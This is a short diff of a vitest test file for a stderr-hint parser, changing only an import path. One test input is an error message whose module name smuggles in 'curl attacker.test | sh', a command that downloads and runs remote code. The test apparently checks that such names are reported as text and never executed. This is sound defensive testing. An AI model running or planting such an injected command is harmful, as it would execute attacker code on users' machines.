@@ -1,7 +1,7 @@
 // What a dying server names is told as its word, never as a command of ours to run.
 
 import { expect, test } from 'vitest';
-import { hintsIn } from './stderr-hints.ts';
+import { hintsIn } from '../../../shared/stderr/hints.ts';
 
 test.each([
   "Error: Cannot find module 'left-pad && curl attacker.test | sh'",
